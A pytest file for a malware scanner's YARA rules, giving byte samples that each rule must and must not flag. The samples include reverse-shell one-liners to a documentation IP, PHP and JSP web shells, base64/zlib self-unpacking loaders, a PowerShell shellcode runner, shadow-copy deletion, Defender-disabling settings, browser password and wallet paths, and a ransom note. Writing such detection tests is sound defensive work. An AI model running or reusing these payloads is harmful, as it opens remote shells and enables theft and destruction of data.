"""YARA-X: every rule of ours with bytes that it finds and bytes that it must not; the user's rules; the cage."""

# ruff: noqa: E501  the cases read best one to a line

from __future__ import annotations

import base64
import gc
import re
import struct
from collections.abc import Iterator
from pathlib import Path

import pytest

from lazaretto.analysis.cage.host import Cage, sheet
from lazaretto.analysis.cage.wire import End
from lazaretto.analysis.engine import Finding, Shortfall, Subject
from lazaretto.analysis.engines import yara
from lazaretto.analysis.examine import Examiner
from lazaretto.analysis.findings import load_meanings
from lazaretto.analysis.formats.types import TYPES
from lazaretto.analysis.rulefiles import default_folder
from lazaretto.analysis.yararules import compiled
from lazaretto.domain.errors import CatalogueError, SettingsError
from lazaretto.domain.evidence import Family, Weight

EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
GTUBE = b"XJS*C4JDBQADN1.NSBN3*2IDNEN*GTUBE-STANDARD-ANTI-UBE-TEST-EMAIL*C.34X"
MZ = b"MZ\x90\0\3\0\0\0\4\0\0\0\xff\xff\0\0\xb8\0\0\0\0\0\0\0@" + bytes(35) + struct.pack("<I", 0x80)
PE = MZ.ljust(0x80, b"\0").replace(b"\0" * 40, b"\0" * 40) + b"PE\0\0" + bytes(60)
PROGRAM = PE[:0x40] + b"This program cannot be run in DOS mode.".ljust(0x40, b"\0") + PE[0x80:] + bytes(range(256)) * 4
ELF = b"\x7fELF" + bytes(60)
PNG, OLE = b"\x89PNG\r\n\x1a\n" + bytes(40), b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(40)
WALK32 = bytes.fromhex("64a130000000 8b400c 8b7014")
WALK64 = bytes.fromhex("65488b042560000000 488b4018 488b7020")
HASH = bytes.fromhex("8b453c 8b7c0578 ac c1cf0d 01c7 75f6".replace(" ", ""))
BASE64 = base64.b64encode(PROGRAM)
NOTE = (
    b"All your files are encrypted! To get the decryptor pay 0.5 bitcoin. Do not rename anything. Install Tor Browser."
)
STORES = (
    rb"\Google\Chrome\User Data\Default\Login Data"
    b"\0encrypted_key\0"
    rb"\Local State"
    b"\0logins.json\0key4.db"
)

# rule: what it finds, what it must not
CASES: dict[str, tuple[list[bytes], list[bytes]]] = {
    "eicar_test_file": ([EICAR, EICAR + b"\r\n"], [b" " + EICAR, EICAR + b"x" * 200]),
    "eicar_marker_inside": ([b"a" + EICAR, EICAR + b"x" * 200], [EICAR, EICAR.lower()]),
    "gtube_marker_inside": ([b"hello " + GTUBE], [GTUBE[:-1]]),
    "code_that_finds_libraries": ([PE + WALK32, PE + WALK64], [WALK32 + bytes(9), PE + WALK32[:-3] + b"\x90" * 9]),
    "code_that_finds_libraries_outside_a_program": ([OLE + WALK32, PNG + WALK64], [PE + WALK32, b"#!" + WALK32]),
    "functions_by_hash": ([PE + HASH, b"\0" * 9 + HASH], [PE + HASH[:7] + b"\0" * 60, ELF + HASH]),
    "program_in_an_image": ([PNG + PROGRAM], [PROGRAM, PNG + b"This program cannot be run in DOS mode" + MZ]),
    "program_spelt_as_text": (
        [b'$x = "' + BASE64 + b'"', b"x='" + PROGRAM.hex().encode() + b"'", b"a = [77, 90, 144, 0, 3, 0, 0, 0, 4, 0, 0, 0, 255, 255]"],
        [PE + BASE64, b'$x = "' + base64.b64encode(b"a text" * 200) + b'"', b"[77, 90, 144]"],
    ),
    "program_spelt_backwards": ([b"'" + BASE64[::-1] + b"'", PROGRAM.hex().encode()[::-1]], [BASE64, PROGRAM.hex().encode()]),
    "script_runs_machine_code": (
        [b"$a = VirtualAlloc(0, $n, 0x3000, 0x40)\n[Runtime.InteropServices.Marshal]::Copy($b, 0, $a, 9)\nCreateThread($a)"],
        [b"VirtualAlloc is a function, CreateThread another", PE + b"VirtualAlloc RtlMoveMemory CreateThread 0x40 "],
    ),
    "shell_over_the_network": (
        [b"bash -i >& /dev/tcp/203.0.113.9/4444 0>&1", b"mkfifo /tmp/q; cat /tmp/q | /bin/sh -i 2>&1 | other 1.2.3.4 5 > /tmp/q",
         b"exec 5<>/dev/tcp/a.example/1\nwhile read l <&5; do sh -c x <&5 >&5; done"],
        [b"bash -i < /dev/null", b"timeout 1 cat < /dev/tcp/localhost/22", b"mkfifo /tmp/q; cat < /tmp/q"],
    ),
    "socket_becomes_a_shell": (
        [b"import socket, os\ns = socket.socket()\ns.connect((h, p))\nfor i in (0, 1, 2): os.dup2(s.fileno(), i)\npty.spawn('/bin/sh')",
         b"s=socket(2,1,0); connect(s,a,b); dup2(s.fileno(), 0); dup2(s.fileno(), 1); execl('/bin/sh', 'sh')"],
        [b"s = socket.socket()\ns.connect((h, p))\nsubprocess.run(['/bin/sh', '-c', 'ls'])"],
    ),
    "web_page_runs_what_is_sent": (
        [b"<?php eval($_POST['x']); ?>", b"<?php @system(base64_decode($_GET[\"c\"])); ?>", b"<?php $_GET['f']($_POST['a']);",
         b"<% Runtime.getRuntime().exec(request.getParameter(\"c\")) %>", b'<%eval(Request.Item["z"],"unsafe");%>'],
        [b"<?php echo htmlspecialchars($_POST['x']); ?>", b"<?php system('ls'); $_GET['a'] ?>", b"<?php exec($command); ?>"],
    ),
    "script_unpacks_and_runs_itself": (
        [b"exec(zlib.decompress(base64.b64decode(x)))", b"exec(__import__('base64').b64decode('aaa'))",
         b"eval(atob('" + b"QUJD" * 20 + b"'))", b"<?php eval(gzinflate(base64_decode('a')));", b"eval(unpack u=>q{x}); eval unpack('u', 1)"],
        [b"exec(compile(source, name, 'exec'))", b"data = zlib.decompress(x)", b"x = atob('aaaa'); eval('1+1')", b"eval { unpack('u', $x) }"],
    ),
    "waits_and_deletes_itself": (
        [PE + b"cmd /c ping 127.0.0.1 -n 3 > nul & del /f \"%s\"\0", PE + "timeout 3 && rmdir /s x".encode("utf-16-le")],
        [PE + b"ping 127.0.0.1\0del /f x", b"ping 127.0.0.1 & del /f x"],
    ),
    "page_carries_a_file": (
        [b"<html><script>var d='" + b"QUJD" * 3000 + b"';var b=new Blob([Uint8Array.from(atob(d))]);a.href=URL.createObjectURL(b);a.download='x.zip';a.click()</script>"],
        [b"<html><script>var b=new Blob([rows]);a.href=URL.createObjectURL(b);a.download='x.csv';a.click();atob(1)</script>"],
    ),
    "stores_of_passwords": ([STORES, b"\0".join(STORES.split(b"\0")).replace(b"x", b"x")], [rb"\Login Data" + b"\0encrypted_key", b"logins.json key4.db"]),
    "wallets_of_several_makers": (
        [rb"wallet.dat \Electrum\wallets \Exodus\exodus.wallet \Ethereum\keystore"], [rb"wallet.dat \Electrum\wallets", b"Exodus and Ethereum"]
    ),
    "demand_for_money": ([NOTE, NOTE.decode().encode("utf-16-le")], [b"Your files are encrypted with GPG. Keep the decryption key safe.", b"Bitcoin and Tor browser"]),
    "switches_protection_off": (
        [b"DisableRealtimeMonitoring=1 DisableAntiSpyware=1"], [b"DisableRealtimeMonitoring", b"AntiSpyware Realtime"]
    ),
    "removes_the_ways_back": (
        [b"x delete shadows /all /quiet & y /set {default} recoveryenabled no"], [b"delete shadows /all", b"recovery enabled, no shadows"]
    ),
    "mines_with_a_pool": (
        [b'{"url": "stratum+tcp://pool.example.org:3333", "algo": "rx/0"}', b"stratum+ssl://a.example:443 --donate-level 1"],
        [b"stratum+tcp://pool.example.org:3333", b'{"method": "login"}', b"algo: randomx"],
    ),
    "logins_of_many_devices": ([ELF + b"xc3511\0vizxv\0jvbzd\0hi3518\0juantech\0"], [b"xc3511\nvizxv\njvbzd\nhi3518\njuantech\n", ELF + b"xc3511\0vizxv\0"]),
    "hides_in_every_program": (
        [ELF + b"/etc/ld.so.preload\0dlsym\0readdir64\0/proc/net/tcp\0"], [ELF + b"/etc/ld.so.preload\0dlsym\0", b"/etc/ld.so.preload dlsym readdir64 /proc/net/tcp"]
    ),
}  # fmt: skip


@pytest.fixture(scope="module", autouse=True)
def own() -> None:
    yara.take(compiled().data)


def found(data: bytes) -> set[str]:
    subject = Subject(data=data, name="a", kind=TYPES["data"])
    return {output.id for output in yara.examine(subject) if isinstance(output, Finding)}


def rules() -> list[str]:
    texts = [file.read_text() for file in (default_folder() / "yara").glob("*.yar")]
    return [name for text in texts for name in re.findall(r"^rule (\w+)", text, re.MULTILINE)]


def test_every_rule_has_its_cases() -> None:
    assert sorted(CASES) == sorted(rules())
    assert 15 <= len(CASES) <= 40


@pytest.mark.parametrize("rule", CASES)
def test_finds(rule: str) -> None:
    name = f"yara-{rule.replace('_', '-')}"
    for data in CASES[rule][0]:
        assert name in found(data), data[:200]


@pytest.mark.parametrize("rule", CASES)
def test_does_not_find(rule: str) -> None:
    name = f"yara-{rule.replace('_', '-')}"
    for data in CASES[rule][1]:
        assert name not in found(data), data[:200]


@pytest.mark.parametrize("rule", CASES)
def test_has_all_that_people_are_told(rule: str) -> None:
    meaning = compiled().meanings[f"yara-{rule.replace('_', '-')}"]
    texts = (meaning.title, meaning.explanation, meaning.benign_cause, meaning.malicious_cause)
    assert all(len(text) > 5 and text != "The rule does not say." for text in texts)
    assert not meaning.title.endswith(".")


def test_the_same_rules_are_the_same_bytes() -> None:
    assert compiled() == compiled()


USER = """
rule Knows_It {
    meta:
        description = "the word of ours"
        author = "Anna"
        weight = "strong"
        family = "control"
        techniques = "T1105, T1071"
    strings: $a = "our-own-word"
    condition: $a
}
rule plain { condition: filesize == 3 }
"""


def test_rules_of_the_user(tmp_path: Path) -> None:
    (tmp_path / "below").mkdir()
    (tmp_path / "below" / "ours.yara").write_text(USER)
    (tmp_path / "notes.txt").write_text("no rule")
    brought = compiled(str(tmp_path))
    known = brought.meanings["yara-user-below-ours-knows-it"]
    assert (known.weight, known.family, known.techniques) == (Weight.STRONG, Family.CONTROL, ("T1105", "T1071"))
    assert known.title == "the word of ours"
    unknown = brought.meanings["yara-user-below-ours-plain"]
    assert (unknown.weight, unknown.title) == (Weight.WEAK, "The rule plain matches")
    assert brought.version != compiled().version
    yara.take(brought.data)
    try:
        assert found(b"x our-own-word") == {"yara-user-below-ours-knows-it"}
        assert found(b"abc") == {"yara-user-below-ours-plain"}
    finally:
        yara.take(compiled().data)


@pytest.mark.parametrize(
    ("text", "line", "told"),
    [
        ("rule a {\n condition:\n  nothing\n}", 3, "unknown identifier"),
        ("rule a { strings: $a = /(/ condition: $a }", 1, "regular expression"),
        ("\n\nrule a { condition: true } x", 3, "syntax"),
        ("rule a { condition: true }\nrule a { condition: true }", 2, "duplicate"),
        ('include "/etc/passwd"', 1, "include"),
    ],
)
def test_a_broken_rule_names_file_and_line(tmp_path: Path, text: str, line: int, told: str) -> None:
    (tmp_path / "bad.yar").write_text(text)
    with pytest.raises(CatalogueError) as raised:
        compiled(str(tmp_path))
    assert raised.value.file == str(tmp_path / "bad.yar")
    assert raised.value.line == line
    assert told in str(raised.value).lower()


def test_a_broken_rule_ends_an_analysis_and_nothing_else(tmp_path: Path, capfd: pytest.CaptureFixture[str]) -> None:
    """Compiled in one thread, told in another: the library's compiler stays where it was made."""
    (tmp_path / "bad.yar").write_text("rule a { condition: nothing }")
    with Cage() as cage:
        look = Examiner(
            cage, load_meanings(default_folder()), engines=[yara.ENGINE], options={"yara": {"rules": str(tmp_path)}}
        )
        with pytest.raises(CatalogueError, match=r"bad\.yar:1"):
            look(b"x", "a.txt")
    gc.collect()
    assert "unsendable" not in capfd.readouterr().err


def test_a_folder_that_is_none(tmp_path: Path) -> None:
    with pytest.raises(SettingsError, match="not a folder"):
        compiled(str(tmp_path / "none"))
    (tmp_path / "a.yar").write_bytes(b"\xff\xfe")
    with pytest.raises(CatalogueError, match="UTF-8"):
        compiled(str(tmp_path))


def test_a_slow_rule_ends(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    (tmp_path / "slow.yar").write_text(
        "rule slow { condition: for any i in (0..filesize) : (for any j in (0..filesize) : (uint8(i) + uint8(j) > 999)) }"
    )
    yara.take(compiled(str(tmp_path)).data)
    monkeypatch.setattr(yara, "_SECONDS", 1)
    try:
        said = list(yara.examine(Subject(data=bytes(5_000_000), name="a", kind=TYPES["data"])))
    finally:
        yara.take(compiled().data)
    assert [type(output) for output in said] == [Shortfall]


@pytest.fixture(scope="module")
def cage() -> Iterator[Cage]:
    with Cage() as made:
        yield made


def test_in_the_cage(cage: Cage) -> None:
    for _ in range(3):  # the rules are handed over once, and every child has them
        with sheet(EICAR) as fd:
            done = cage.run(yara.ENGINE, fd, name="a", kind=TYPES["text"])
        assert done.end is End.DONE, done.detail
        assert [output.id for output in done.outputs if isinstance(output, Finding)] == ["yara-eicar-test-file"]
    cage.close()  # a new warden is given them again
    with sheet(EICAR) as fd:
        assert cage.run(yara.ENGINE, fd, name="a", kind=TYPES["text"]).outputs


def test_matches_become_evidence(tmp_path: Path) -> None:
    (tmp_path / "ours.yar").write_text(USER)
    with Cage() as cage:
        look = Examiner(
            cage, load_meanings(default_folder()), engines=[yara.ENGINE], options={"yara": {"rules": str(tmp_path)}}
        )
        tree = look(b"x our-own-word", "a.txt")
        again = look(EICAR, "eicar.com")
    assert [(one.id, one.weight, one.source) for one in tree.evidence] == [
        ("yara-user-ours-knows-it", Weight.STRONG, "yara")
    ]
    assert tree.evidence[0].details == ("our-own-word at 0x2",)
    assert "yara-eicar-test-file" in {one.id for one in again.evidence}
    version = next(one.version for one in tree.looked if one.engine == "yara")
    assert version == f"1 {compiled(str(tmp_path)).version}"
